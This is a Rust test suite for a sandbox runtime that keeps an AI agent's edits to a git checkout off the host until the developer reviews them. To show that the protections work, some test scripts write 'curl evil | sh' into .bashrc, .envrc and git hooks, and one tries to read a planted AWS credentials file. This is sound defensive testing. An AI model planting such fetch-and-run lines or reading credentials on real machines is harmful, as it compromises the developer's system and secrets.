//! Workspace suite (docs/workspace.md): an ordinary checkout, owned by uid 1000 with modes
//! 0644/0755, is editable inside the sandbox and `git` works there with no flags, while the
//! host checkout stays as it was; the changes outlive the container (podman `--rm`,
//! `podman rm`, `ctr run --rm`) and are found by name or id without `--root`; the writable
//! layer has a quota; kept change sets expire.
//!
//! Each property is shown failing without the feature: a user-namespaced runc container
//! (the same id shift as the sandbox, no idmapped workspace) gets "Permission denied"; a
//! policy without `workspace_size` lets the same write grow the host disk.

use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use agent_sandbox_e2e::ctr::{self, Shim};
use agent_sandbox_e2e::harness::{self, DEFAULT_TIMEOUT, Output, TOOLS_IMAGE, User};
use agent_sandbox_e2e::podman::{ContainerGuard, Podman, Runtime};
use anyhow::{Context, bail, ensure};

/// The developer's uid and gid (an ordinary first user).
const DEV: u32 = 1000;
/// The host's git, bound into the tools image (which has its libraries) read-only.
const HOST_GIT: &str = "/usr/local/bin/git";

/// A container name unique to this test process, with this suite's prefix.
fn name(stem: &str) -> String {
    harness::unique("ws", stem)
}

/// `podman FLAGS... run --name NAME -v REPO:/workspace ARGS... tools sh -c SCRIPT` (any exit
/// code), with the guard that removes the container.
fn run_in_workspace(
    p: Podman,
    flags: &[&str],
    args: &[&str],
    name: &str,
    repo: &Path,
    script: &str,
) -> anyhow::Result<(ContainerGuard, Output)> {
    let guard = ContainerGuard::new(p, name);
    let volume = format!("{}:/workspace", repo.display());
    let mut all = flags.to_vec();
    all.extend(["run", "--name", name, "-v", &volume]);
    all.extend_from_slice(args);
    all.extend([TOOLS_IMAGE, "sh", "-c", script]);
    Ok((guard, p.run(&all)?))
}

/// Host git on the checkout (as root: `safe.directory` for the uid-1000 repo).
fn host_git(repo: &Path, args: &[&str]) -> anyhow::Result<String> {
    let out = harness::run_ok(
        Command::new(HOST_GIT)
            .args(["-c", "safe.directory=*", "-C"])
            .arg(repo)
            .args(args),
        DEFAULT_TIMEOUT,
    )?;
    Ok(out.stdout)
}

/// A git checkout owned by uid/gid 1000 (0644 files, 0755 dirs) with one commit.
struct Checkout {
    _dir: tempfile::TempDir,
    repo: PathBuf,
}

fn checkout() -> anyhow::Result<Checkout> {
    checkout_owned_by(DEV, tempfile::tempdir()?, &[])
}

/// The same checkout owned by `owner` (uid and gid) in `dir`, with `files` (path, text)
/// committed too.
fn checkout_owned_by(
    owner: u32,
    dir: tempfile::TempDir,
    files: &[(&str, &str)],
) -> anyhow::Result<Checkout> {
    harness::require_file(HOST_GIT)?;
    fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )?;
    let repo = dir.path().join("repo");
    fs::create_dir_all(repo.join("src"))?;
    fs::write(
        repo.join("src/calc.py"),
        "def add(a, b):\n    return a + b\n",
    )?;
    fs::write(repo.join("README"), "calc\n")?;
    for (path, text) in files {
        fs::write(repo.join(path), text)?;
    }
    host_git(&repo, &["init", "-q"])?;
    host_git(&repo, &["add", "-A"])?;
    host_git(
        &repo,
        &[
            "-c",
            "user.name=dev",
            "-c",
            "user.email=dev@example.invalid",
            "commit",
            "-qm",
            "init",
        ],
    )?;
    harness::run_ok(
        Command::new("chown")
            .args(["-R", &format!("{owner}:{owner}")])
            .arg(&repo),
        DEFAULT_TIMEOUT,
    )?;
    harness::run_ok(
        Command::new("chmod").args(["-R", "u=rwX,go=rX"]).arg(&repo),
        DEFAULT_TIMEOUT,
    )?;
    Ok(Checkout { _dir: dir, repo })
}

/// What the host checkout looks like: status, commits, owner and the edited file.
fn host_state(repo: &Path) -> anyhow::Result<(String, String, u32, String)> {
    Ok((
        host_git(repo, &["status", "--porcelain"])?,
        host_git(repo, &["log", "--oneline"])?,
        fs::metadata(repo.join("src/calc.py"))?.uid(),
        fs::read_to_string(repo.join("src/calc.py"))?,
    ))
}

/// The agent's session: edit, create in a new subdirectory, delete, commit with git. The
/// identity comes from the environment: `~/.gitconfig` is a protected name, so
/// `git config --global` is refused (docs/policy.md#protected-names).
const AGENT_SCRIPT: &str = "set -e; cd /workspace; \
    echo 'def sub(a, b): return a - b' >> src/calc.py; \
    mkdir -p src/new && echo 'x = 1' > src/new/mod.py; \
    rm README; \
    if git config --global user.name agent 2>/dev/null; then echo GLOBAL-CONFIG-WRITTEN; fi; \
    export GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=agent@example.invalid; \
    export GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=agent@example.invalid; \
    git status --short; git add -A; git commit -qm 'agent: sub'; \
    echo COMMITTED $(git rev-parse HEAD); git log --oneline | wc -l";

/// The sandbox's changes as `diff` shows them, after its container is gone.
fn expect_reviewable(key: &str, out: &Output) -> anyhow::Result<()> {
    expect_reviewable_by(User::Root, key, out)
}

/// `agent-sandbox ARGS...` run by `user` on the host (the rootless user outside podman's
/// namespace: no `podman unshare`); any exit code.
fn runtime_as(user: User, args: &[&str]) -> anyhow::Result<Output> {
    match user {
        User::Root => harness::runtime(args),
        User::Rootless => {
            harness::require_file(harness::runtime_bin())?;
            let mut cmd = user.command(&harness::runtime_bin().display().to_string());
            harness::run(cmd.args(args), DEFAULT_TIMEOUT)
        }
    }
}

/// [`runtime_as`], requiring exit 0.
fn runtime_as_ok(user: User, args: &[&str]) -> anyhow::Result<Output> {
    let out = runtime_as(user, args)?;
    ensure!(
        out.success(),
        "agent-sandbox {args:?} as {user} failed\n{out}"
    );
    Ok(out)
}

/// [`expect_reviewable`] with the review commands run by `user`.
fn expect_reviewable_by(user: User, key: &str, out: &Output) -> anyhow::Result<()> {
    let runtime = |args: &[&str]| runtime_as_ok(user, args);
    ensure!(
        out.stdout.contains("COMMITTED ") && out.stdout.trim_end().ends_with('2'),
        "git commit did not work inside the sandbox\n{out}"
    );
    ensure!(
        !out.stdout.contains("GLOBAL-CONFIG-WRITTEN"),
        "git config --global wrote the protected ~/.gitconfig\n{out}"
    );
    ensure!(
        !out.stderr.contains("dubious ownership") && !out.stderr.contains("Permission denied"),
        "{out}"
    );
    let diff = runtime(&["diff", key])?;
    for line in [
        "M /src/calc.py (file)",
        "A /src/new/mod.py (file)",
        "D /README (file)",
    ] {
        ensure!(
            diff.stdout.lines().any(|l| l == line),
            "diff of {key} lacks {line:?}\n{diff}"
        );
    }
    // The moved branch shows as the agent's commit and its ref, not as .git files.
    ensure!(
        diff.stdout.lines().any(|l| l.starts_with("commit "))
            && diff
                .stdout
                .lines()
                .any(|l| l.starts_with("ref refs/heads/"))
            && !diff.stdout.contains(" /.git/"),
        "diff of {key} shows no moved branch\n{diff}"
    );
    let export = harness::temp_dir_for(user)?;
    let to = export.path().join("out");
    runtime(&["export", "--to-dir", &to.display().to_string(), key])?;
    let calc = fs::read_to_string(to.join("src/calc.py"))?;
    ensure!(calc.contains("def sub"), "exported calc.py: {calc:?}");
    ensure!(to.join("src/new/mod.py").exists());
    let commit = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("COMMITTED "))
        .context("no commit id")?;
    let object = to
        .join(".git/objects")
        .join(&commit[..2])
        .join(&commit[2..]);
    ensure!(
        object.exists(),
        "the agent's commit object {} was not exported",
        object.display()
    );
    let list = runtime(&["changes"])?;
    ensure!(
        list.stdout.lines().any(|l| l.contains(key)),
        "changes does not list {key}\n{list}"
    );
    Ok(())
}

/// The naive setup, today's behaviour without the idmapped workspace: a container whose
/// root is an unprivileged host id (runc with the same kind of id shift) cannot edit the
/// uid-1000 checkout.
fn naive_userns_cannot_edit(repo: &Path) -> anyhow::Result<()> {
    let volume = format!("{}:/workspace", repo.display());
    let out = Podman::new(User::Root, Runtime::Runc).run(&[
        "run",
        "--rm",
        "--uidmap",
        "0:3000000:65536",
        "--gidmap",
        "0:3000000:65536",
        "-v",
        &volume,
        TOOLS_IMAGE,
        "sh",
        "-c",
        "echo x >> /workspace/src/calc.py; echo x > /workspace/src/new.py",
    ])?;
    ensure!(
        out.stderr.matches("Permission denied").count() >= 2,
        "the naive baseline should be refused both writes\n{out}"
    );
    Ok(())
}

#[test]
fn podman_agent_edits_and_commits_a_uid_1000_checkout_reviewable_after_run_rm() -> anyhow::Result<()>
{
    harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
    let co = checkout()?;
    let before = host_state(&co.repo)?;
    naive_userns_cannot_edit(&co.repo)?;
    ensure!(
        host_state(&co.repo)? == before,
        "the baseline changed the host"
    );

    let n = name("podman");
    let git = format!("{HOST_GIT}:/usr/bin/git:ro");
    let p = Podman::new(User::Root, Runtime::AgentSandbox);
    let (_g, out) = run_in_workspace(p, &[], &["--rm", "-v", &git], &n, &co.repo, AGENT_SCRIPT)?;
    ensure!(out.success(), "{out}");
    let gone = p.run(&["container", "exists", &n])?;
    ensure!(gone.code == Some(1), "podman --rm left {n}\n{gone}");
    ensure!(host_state(&co.repo)? == before, "the host checkout changed");
    expect_reviewable(&n, &out)?;
    // Promoted by podman's name after the container is gone: the commit comes back under
    // refs/agent-sandbox/ and (--advance) moves the developer's branch, the files are owned
    // by its developer, the record goes to that container's audit log, and the promoted
    // change set is discarded.
    let repo = co.repo.display().to_string();
    let promoted = harness::runtime_ok(&["promote", &n, "--to", &repo, "--advance"])?;
    ensure!(
        promoted.stdout.contains("promoted and discarded")
            && promoted.stdout.contains("wrote refs/agent-sandbox/")
            && promoted.stdout.contains("advanced refs/heads/"),
        "{promoted}"
    );
    let log = host_git(&co.repo, &["log", "--format=%s"])?;
    ensure!(log == "agent: sub\ninit\n", "host git log: {log:?}");
    host_git(&co.repo, &["fsck", "--strict", "--no-progress"])?;
    let calc = co.repo.join("src/calc.py");
    ensure!(fs::read_to_string(&calc)?.contains("def sub"));
    ensure!(fs::metadata(&calc)?.uid() == DEV && !co.repo.join("README").exists());
    let list = harness::runtime_ok(&["changes"])?;
    ensure!(!list.stdout.contains(&n), "{n} still listed\n{list}");
    let again = harness::runtime(&["diff", &n])?;
    ensure!(
        again.code == Some(1) && again.stderr.contains("does not exist"),
        "{again}"
    );
    Ok(())
}

#[test]
fn podman_changes_survive_podman_rm_and_are_found_by_short_id() -> anyhow::Result<()> {
    harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
    let co = checkout()?;
    let n = name("rm");
    let p = Podman::new(User::Root, Runtime::AgentSandbox);
    let (_g, out) = run_in_workspace(
        p,
        &[],
        &[],
        &n,
        &co.repo,
        "echo changed > /workspace/README",
    )?;
    ensure!(out.success(), "{out}");
    let id = p.run_ok(&["inspect", "--format", "{{.Id}}", &n])?.stdout;
    let id = id.trim().to_owned();
    p.run_ok(&["rm", &n])?;
    let diff = harness::runtime_ok(&["diff", &id[..12]])?;
    ensure!(
        diff.stdout.lines().any(|l| l == "M /README (file)"),
        "{diff}"
    );
    ensure!(fs::read_to_string(co.repo.join("README"))? == "calc\n");
    harness::runtime_ok(&["changes", "discard", &id])?;
    Ok(())
}

#[test]
fn ctr_run_rm_changes_stay_reviewable_without_root() -> anyhow::Result<()> {
    ctr::require_containerd()?;
    let images = harness::run_ok(ctr::ctr().args(["images", "ls", "-q"]), DEFAULT_TIMEOUT)?;
    if !images.stdout.lines().any(|l| l == TOOLS_IMAGE) {
        bail!("image {TOOLS_IMAGE} is not in containerd; run hack/containerd.sh");
    }
    let co = checkout()?;
    let before = host_state(&co.repo)?;
    let id = name("ctr");
    let ws = format!(
        "type=bind,src={},dst=/workspace,options=rbind:rw",
        co.repo.display()
    );
    let git = format!("type=bind,src={HOST_GIT},dst=/usr/bin/git,options=rbind:ro");
    let out = ctr::run_rm(
        Shim::AgentSandbox,
        &["--mount", &ws, "--mount", &git],
        TOOLS_IMAGE,
        &id,
        &["sh", "-c", AGENT_SCRIPT],
    )?;
    ensure!(out.success(), "{out}");
    let gone = harness::run(
        ctr::ctr().args(["containers", "info", &id]),
        DEFAULT_TIMEOUT,
    )?;
    ensure!(!gone.success(), "ctr run --rm left {id}\n{gone}");
    ensure!(host_state(&co.repo)? == before, "the host checkout changed");
    expect_reviewable(&id, &out)?;
    let list = harness::runtime_ok(&["changes", "list", "--json"])?;
    let record: serde_json::Value = list
        .stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|r| r["container"] == id.as_str())
        .with_context(|| format!("no record for {id}\n{list}"))?;
    ensure!(record["entry_point"] == "containerd", "{record}");
    ensure!(
        record["workspace"] == co.repo.display().to_string().as_str(),
        "{record}"
    );
    harness::runtime_ok(&["changes", "discard", &id])?;
    Ok(())
}

/// A policy file: the `agent` profile with its `[filesystem]` keys changed by `edit`.
fn agent_policy(dir: &Path, file: &str, edit: impl Fn(&str) -> String) -> anyhow::Result<String> {
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("../profiles/agent.toml");
    let text =
        fs::read_to_string(&source).with_context(|| format!("cannot read {}", source.display()))?;
    let path = dir.join(file);
    fs::write(&path, edit(&text))?;
    Ok(path.display().to_string())
}

/// Runs `script` in a sandbox with `policy`; returns the output and the kept record.
fn run_with_policy(
    policy: &str,
    repo: &Path,
    stem: &str,
    script: &str,
) -> anyhow::Result<(Output, serde_json::Value, String)> {
    let n = name(stem);
    let flag = format!("policy={policy}");
    let p = Podman::new(User::Root, Runtime::AgentSandbox);
    let (_g, out) = run_in_workspace(p, &["--runtime-flag", &flag], &["--rm"], &n, repo, script)?;
    let list = harness::runtime_ok(&["changes", "list", "--json"])?;
    let record = list
        .stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|r| r["name"] == n.as_str())
        .with_context(|| format!("no kept change set named {n}\n{list}\n{out}"))?;
    Ok((out, record, n))
}

/// The profile text with its `workspace_size` line replaced (or dropped for `None`).
fn with_workspace_size(text: &str, size: Option<&str>) -> String {
    let kept: Vec<&str> = text
        .lines()
        .filter(|l| !l.starts_with("workspace_size"))
        .collect();
    let out = kept.join("\n");
    match size {
        Some(size) => out.replacen(
            "workspace = \"/workspace\"",
            &format!("workspace = \"/workspace\"\nworkspace_size = \"{size}\""),
            1,
        ),
        None => out,
    }
}

#[test]
fn workspace_quota_gives_enospc_where_the_naive_layer_grows_the_host_disk() -> anyhow::Result<()> {
    harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
    let co = checkout()?;
    let dir = tempfile::tempdir()?;
    let capped = agent_policy(dir.path(), "capped.toml", |t| {
        with_workspace_size(t, Some("64M"))
    })?;
    let naive = agent_policy(dir.path(), "naive.toml", |t| with_workspace_size(t, None))?;
    // 160 MiB: past the 64 MiB cap.
    let script = "dd if=/dev/zero of=/workspace/fill bs=1M count=160 2>&1; echo rc=$?";
    let (out, record, n) = run_with_policy(&capped, &co.repo, "quota", script)?;
    ensure!(
        out.stdout.contains("No space left on device") && !out.stdout.contains("rc=0"),
        "the write past the quota should fail with ENOSPC\n{out}"
    );
    let size = record["size_bytes"].as_u64().context("no size")?;
    ensure!(
        size <= 70 << 20,
        "the capped layer took {size} bytes of host disk\n{record}"
    );
    harness::runtime_ok(&["changes", "discard", &n])?;
    let (out, record, n) = run_with_policy(&naive, &co.repo, "naive", script)?;
    ensure!(out.stdout.contains("rc=0"), "{out}");
    let size = record["size_bytes"].as_u64().context("no size")?;
    ensure!(
        size >= 160 << 20,
        "without the quota the same write should take 160 MiB of host disk, took {size}\n{record}"
    );
    harness::runtime_ok(&["changes", "discard", &n])?;
    ensure!(!co.repo.join("fill").exists(), "the write reached the host");
    Ok(())
}

#[test]
fn kept_changes_expire_after_the_policys_age_and_diff_then_finds_nothing() -> anyhow::Result<()> {
    harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
    let co = checkout()?;
    let dir = tempfile::tempdir()?;
    let policy = agent_policy(dir.path(), "short.toml", |t| {
        t.lines()
            .filter(|l| !l.starts_with("changes_max_age"))
            .collect::<Vec<_>>()
            .join("\n")
            .replacen(
                "workspace = \"/workspace\"",
                "workspace = \"/workspace\"\nchanges_max_age = \"2s\"",
                1,
            )
    })?;
    let (out, record, n) =
        run_with_policy(&policy, &co.repo, "expire", "echo new > /workspace/new.txt")?;
    ensure!(out.success(), "{out}");
    ensure!(record["ended"].is_u64(), "{record}");
    let diff = harness::runtime_ok(&["diff", &n])?;
    ensure!(diff.stdout.contains("A /new.txt (file)"), "{diff}");
    std::thread::sleep(std::time::Duration::from_secs(3));
    // Any create that has a workspace applies the limits too: another test's sandbox may
    // have removed it first; either way it must be gone now.
    harness::runtime_ok(&["changes", "prune"])?;
    let list = harness::runtime_ok(&["changes", "list", "--json"])?;
    let change = record["change"].as_str().context("no change id")?;
    ensure!(
        !list.stdout.contains(change),
        "{change} outlived its 2 s age\n{list}"
    );
    let after = harness::runtime(&["diff", &n])?;
    ensure!(
        after.code == Some(1) && after.stderr.contains("does not exist"),
        "{after}"
    );
    Ok(())
}

#[test]
fn protected_names_already_in_subdirectories_are_read_only_inside_but_runc_writes_them()
-> anyhow::Result<()> {
    harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
    let co = checkout()?;
    fs::create_dir_all(co.repo.join("pkg"))?;
    fs::write(co.repo.join("pkg/.envrc"), "export A=1\n")?;
    fs::create_dir_all(co.repo.join("vendor/lib/.git/hooks"))?;
    harness::run_ok(
        Command::new("chown")
            .args(["-R", &format!("{DEV}:{DEV}")])
            .arg(&co.repo),
        DEFAULT_TIMEOUT,
    )?;
    let volume = format!("{}:/workspace", co.repo.display());
    let script = "echo 'curl evil | sh' >> /workspace/pkg/.envrc; echo envrc=$?; \
        echo 'curl evil | sh' > /workspace/vendor/lib/.git/hooks/pre-commit; echo hook=$?; \
        echo fine > /workspace/pkg/notes.txt; echo notes=$?";
    let n = name("depth");
    let p = Podman::new(User::Root, Runtime::AgentSandbox);
    let (_g, ours) = run_in_workspace(p, &[], &["--rm"], &n, &co.repo, script)?;
    for want in ["envrc=1", "hook=1", "notes=0"] {
        ensure!(ours.stdout.contains(want), "expected {want}\n{ours}");
    }
    harness::runtime_ok(&["changes", "discard", &n])?;
    ensure!(fs::read_to_string(co.repo.join("pkg/.envrc"))? == "export A=1\n");
    // runc: both land on the host.
    let base = Podman::new(User::Root, Runtime::Runc).run(&[
        "run",
        "--rm",
        "-v",
        &volume,
        TOOLS_IMAGE,
        "sh",
        "-c",
        script,
    ])?;
    for want in ["envrc=0", "hook=0"] {
        ensure!(
            base.stdout.contains(want),
            "runc baseline: expected {want}\n{base}"
        );
    }
    ensure!(fs::read_to_string(co.repo.join("pkg/.envrc"))?.contains("curl evil"));
    Ok(())
}

/// The agent's session plus two planted attacks on the developer: a line in `.bashrc` and a
/// git hook, each printing a marker when the write went through.
const ROOTLESS_SCRIPT: &str = "(echo 'curl evil | sh' >> /workspace/.bashrc) 2>/dev/null && echo BASHRC-WRITTEN; \
    (echo 'curl evil | sh' > /workspace/.git/hooks/post-checkout) 2>/dev/null && echo HOOK-WRITTEN; ";

/// The rootless test user's own checkout (uid 1500, 0644/0755, a `.bashrc`), as a
/// developer's desktop has it: no chmod, no `safe.directory`.
fn user_checkout() -> anyhow::Result<Checkout> {
    checkout_owned_by(
        harness::TEST_UID,
        harness::temp_dir_for(User::Rootless)?,
        &[(".bashrc", "# the developer's\n")],
    )
}

/// `podman unshare agent-sandbox ARGS...` as the rootless user (inside podman's namespace).
fn unshare(args: &[&str]) -> anyhow::Result<Output> {
    let mut cmd = User::Rootless.command("podman");
    cmd.arg("unshare").arg(harness::runtime_bin()).args(args);
    harness::run(&mut cmd, DEFAULT_TIMEOUT)
}

/// Rootless podman on the user's own checkout, as a desktop agent runs its tools: execs into
/// one long-lived sandbox edit, create, delete and `git commit` with no chmod and no
/// `safe.directory`; the planted `.bashrc` line and git hook are refused; the host checkout is
/// unchanged until the user (no `podman unshare`) reviews and promotes. Under runc the same
/// session writes the host checkout directly, attacks included.
#[test]
fn rootless_podman_agent_edits_the_users_checkout_kept_off_the_host_until_promote_unlike_runc()
-> anyhow::Result<()> {
    harness::require_podman_image(User::Rootless, TOOLS_IMAGE)?;
    let git = format!("{HOST_GIT}:/usr/bin/git:ro");
    let script = format!("{ROOTLESS_SCRIPT}{AGENT_SCRIPT}");

    // The reference: rootless runc, whose root is the user too, writes the host checkout.
    let naive = user_checkout()?;
    let runc = Podman::new(User::Rootless, Runtime::Runc);
    let (_gr, base) = run_in_workspace(
        runc,
        &[],
        &["--rm", "-v", &git],
        &name("rl-runc"),
        &naive.repo,
        &script,
    )?;
    ensure!(base.success(), "runc baseline\n{base}");
    ensure!(
        base.stdout.contains("BASHRC-WRITTEN") && base.stdout.contains("HOOK-WRITTEN"),
        "runc baseline: the planted writes should go through\n{base}"
    );
    ensure!(
        fs::read_to_string(naive.repo.join(".bashrc"))?.contains("curl evil")
            && naive.repo.join(".git/hooks/post-checkout").exists()
            && !naive.repo.join("README").exists()
            && fs::read_to_string(naive.repo.join("src/calc.py"))?.contains("def sub"),
        "runc baseline: the session should have reached the host checkout"
    );

    let co = user_checkout()?;
    // The user's AWS keys beside the code (0600, ignored by git): the sandbox's root owns
    // them, so only the mask keeps them out (docs/workspace.md#secret-names).
    let aws = co.repo.join(".aws/credentials");
    let secret = format!("aws_secret_access_key = rl-secret-{}\n", std::process::id());
    fs::create_dir_all(co.repo.join(".aws"))?;
    fs::write(&aws, &secret)?;
    fs::set_permissions(&aws, std::os::unix::fs::PermissionsExt::from_mode(0o600))?;
    fs::write(co.repo.join(".git/info/exclude"), ".aws/\n")?;
    harness::run_ok(
        Command::new("chown")
            .args(["-R", &format!("{0}:{0}", harness::TEST_UID)])
            .arg(co.repo.join(".aws"))
            .arg(co.repo.join(".git/info")),
        DEFAULT_TIMEOUT,
    )?;
    let before = host_state(&co.repo)?;
    let n = name("rootless");
    let p = Podman::new(User::Rootless, Runtime::AgentSandbox);
    let _g = ContainerGuard::new(p, &n);
    let volume = format!("{}:/workspace", co.repo.display());
    let run = p.run(&[
        "run",
        "-d",
        "--name",
        &n,
        "-v",
        &volume,
        "-v",
        &git,
        TOOLS_IMAGE,
        "sleep",
        "600",
    ])?;
    ensure!(run.success(), "{run}");
    let id = run
        .stdout
        .trim()
        .lines()
        .last()
        .unwrap_or_default()
        .to_owned();
    let out = p.run(&["exec", &n, "sh", "-c", &script])?;
    ensure!(out.success(), "{out}");
    ensure!(
        !out.stdout.contains("BASHRC-WRITTEN") && !out.stdout.contains("HOOK-WRITTEN"),
        "a protected name was written inside the sandbox\n{out}"
    );
    let peek = p.run(&[
        "exec",
        &n,
        "sh",
        "-c",
        "ls -a /workspace/.aws; cat /workspace/.aws/credentials; echo PEEKED",
    ])?;
    ensure!(
        peek.stdout.contains("PEEKED") && !peek.stdout.contains("rl-secret-"),
        "the sandbox read the user's AWS keys\n{peek}"
    );
    // What differs from rootful, as `layers` reports it.
    let layers = unshare(&["layers", &id])?;
    ensure!(layers.success(), "{layers}");
    let report: serde_json::Value = serde_json::from_str(&layers.stdout)
        .with_context(|| format!("layers is not JSON\n{layers}"))?;
    let root_is = report["userns"]["root_is"].as_str().unwrap_or_default();
    ensure!(
        root_is == format!("the invoking user (host uid {})", harness::TEST_UID)
            && report["userns"]["host_root_mapped"] == false
            && report["userns"]["rootless"]
                .as_array()
                .is_some_and(|a| !a.is_empty()),
        "layers: {}",
        report["userns"]
    );
    ensure!(
        report["workspace_secrets"]["masked"]
            .as_array()
            .is_some_and(|a| a.iter().any(|p| p == "/workspace/.aws")),
        "layers does not list the masked .aws/: {}",
        report["workspace_secrets"]
    );
    ensure!(
        host_state(&co.repo)? == before,
        "the host checkout changed while the sandbox ran"
    );
    p.run_ok(&["rm", "-f", "-t", "0", &n])?;
    ensure!(host_state(&co.repo)? == before, "the host checkout changed");
    ensure!(
        fs::read_to_string(co.repo.join(".bashrc"))? == "# the developer's\n"
            && !co.repo.join(".git/hooks/post-checkout").exists(),
        "a planted write reached the host"
    );
    // Reviewed and promoted by the user, outside podman's namespace.
    expect_reviewable_by(User::Rootless, &n, &out)?;
    let repo = co.repo.display().to_string();
    let promoted = runtime_as_ok(User::Rootless, &["promote", &n, "--to", &repo, "--advance"])?;
    ensure!(
        promoted.stdout.contains("promoted and discarded"),
        "{promoted}"
    );
    let log = host_git(&co.repo, &["log", "--format=%s"])?;
    ensure!(log == "agent: sub\ninit\n", "host git log: {log:?}");
    let calc = co.repo.join("src/calc.py");
    ensure!(
        fs::read_to_string(&calc)?.contains("def sub") && co.repo.join("src/new/mod.py").exists()
    );
    ensure!(fs::metadata(&calc)?.uid() == harness::TEST_UID && !co.repo.join("README").exists());
    ensure!(!co.repo.join(".git/hooks/post-checkout").exists());
    // The mask never came back as a change: the keys are as the user left them.
    ensure!(
        fs::read_to_string(&aws)? == secret,
        "promote changed the user's .aws/credentials"
    );
    Ok(())
}

/// A rootless sandbox that wrote nothing is still found after `podman run --rm`: `diff` says
/// "no changes" (inside podman's namespace and outside it), not that it does not exist; a
/// discarded one then does not exist.
#[test]
fn rootless_podman_sandbox_that_wrote_nothing_reviews_as_no_changes() -> anyhow::Result<()> {
    harness::require_podman_image(User::Rootless, TOOLS_IMAGE)?;
    let co = user_checkout()?;
    let n = name("rl-empty");
    let p = Podman::new(User::Rootless, Runtime::AgentSandbox);
    let (_g, out) = run_in_workspace(p, &[], &["--rm"], &n, &co.repo, "cat /workspace/README")?;
    ensure!(out.success(), "{out}");
    for diff in [
        unshare(&["diff", &n])?,
        runtime_as(User::Rootless, &["diff", &n])?,
    ] {
        ensure!(
            diff.success() && diff.stdout.trim() == "# no changes",
            "{diff}"
        );
    }
    runtime_as_ok(User::Rootless, &["changes", "discard", &n])?;
    let again = runtime_as(User::Rootless, &["diff", &n])?;
    ensure!(again.stderr.contains("does not exist"), "{again}");
    Ok(())
}
